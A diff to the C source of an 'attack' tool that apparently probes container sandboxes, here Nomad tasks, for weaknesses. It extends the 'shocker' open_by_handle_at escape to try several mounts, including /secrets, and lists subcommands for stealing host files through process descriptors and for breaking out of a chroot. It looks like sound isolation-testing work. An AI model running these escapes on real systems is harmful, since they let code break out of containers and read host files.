@@ -6,7 +6,7 @@
  *	attack steal NAME SECONDS	attach to every process that appears and look for the
  *					host's file NAME through its descriptors, root and directory
  *	attack calls			the errno of system calls that a container must not have
- *	attack identity			/proc/self/status and the like, to compare task and exec
+ *	attack identity [FILE]		/proc/self/status and the like, to compare task and exec
  *	attack shocker NAME		open a file by its handle
  *	attack flood PATH COUNT		datagrams to a socket, bytes to a file
  *	attack chroot NAME		the classic way out of a chroot
@@ -237,16 +237,17 @@ static int calls(void)
 
 /* ---- identity ---- */
 
-static void print_file(const char *path, const char *const *keys)
+/* Without the lines that begin with one of `but`. */
+static void print_file(const char *path, const char *const *but)
 {
 	char line[4096];
 	FILE *file = fopen(path, "re");
 
 	while (file && fgets(line, sizeof(line), file)) {
-		int wanted = !keys;
+		int wanted = 1;
 
-		for (const char *const *k = keys; k && *k; k++)
-			wanted = wanted || strncmp(line, *k, strlen(*k)) == 0;
+		for (const char *const *k = but; k && *k; k++)
+			wanted = wanted && strncmp(line, *k, strlen(*k)) != 0;
 		if (wanted)
 			printf("%s: %s%s", path, line, strchr(line, '\n') ? "" : "\n");
 	}
@@ -256,16 +257,16 @@ static void print_file(const char *path, const char *const *keys)
 
 static int identity(void)
 {
-	static const char *const status[] = {
-		"Uid:",	   "Gid:",    "Groups:",     "CapInh:",	      "CapPrm:",	  "CapEff:",
-		"CapBnd:", "CapAmb:", "NoNewPrivs:", "Seccomp:",      "Seccomp_filters:", "SigBlk:",
-		"SigIgn:", "SigCgt:", "Umask:",	     "Cpus_allowed:", "Mems_allowed:",	  NULL
+	/* Whose number it is, and how much it has used. */
+	static const char *const own[] = {
+		"Pid:", "PPid:",   "Tgid:", "NSpid:",	"NSpgid:", "NSsid:",	"NStgid:",	"FDSize:", "Vm",
+		"Rss",	"Hugetlb", "SigQ:", "Threads:", "State:",  "voluntary", "nonvoluntary", NULL
 	};
 	static const char *const ns[] = { "cgroup", "ipc", "mnt", "net", "pid", "time", "user", "uts" };
 	char path[64], target[PATH_MAX];
 	ssize_t n;
 
-	print_file("/proc/self/status", status);
+	print_file("/proc/self/status", own);
 	print_file("/proc/self/limits", NULL);
 	print_file("/proc/self/cgroup", NULL);
 	print_file("/proc/self/oom_score_adj", NULL);
@@ -297,20 +298,27 @@ static int identity(void)
 
 /* ---- The others ---- */
 
+/* By the handle of a root directory, on the file system of each mount that may be the host's. */
 static int shocker(const char *name)
 {
 	struct {
 		struct file_handle head;
 		unsigned char data[8];
 	} root = { .head = { .handle_bytes = 8, .handle_type = 1 }, .data = { 2 } };
-	int mount = open("/", O_RDONLY | O_DIRECTORY), fd;
+	static const char *const mounts[] = { "/",	"/run/nomad/init", "/etc/resolv.conf", "/alloc",
+					      "/local", "/secrets",	   "/run/host/notify", "/proc/self/fd/1" };
+	int found = 0;
 	struct stat st;
 
-	fd = open_by_handle_at(mount, &root.head, O_RDONLY);
-	if (fd < 0)
-		return puts("refused") < 0;
-	return fstatat(fd, name, &st, 0) == 0 ? escaped("a file handle led to the host", getpid(), name)
-					      : puts("refused") < 0;
+	for (size_t i = 0; i < sizeof(mounts) / sizeof(mounts[0]); i++) {
+		int mount = open(mounts[i], O_RDONLY | O_NONBLOCK), fd = open_by_handle_at(mount, &root.head, O_RDONLY);
+
+		if (fd >= 0 && fstatat(fd, name, &st, 0) == 0)
+			found += escaped("a file handle led to the host", getpid(), mounts[i]);
+	}
+	if (!found)
+		puts("refused");
+	return 0;
 }
 
 static int flood(const char *path, int count)
@@ -380,7 +388,7 @@ int main(int argc, char **argv)
 		return steal(argv[2], atoi(argv[3]));
 	if (strcmp(act, "calls") == 0)
 		return calls();
-	if (strcmp(act, "identity") == 0)
+	if (strcmp(act, "identity") == 0 && (argc < 3 || freopen(argv[2], "we", stdout)))
 		return identity();
 	if (strcmp(act, "shocker") == 0 && argc == 3)
 		return shocker(argv[2]);
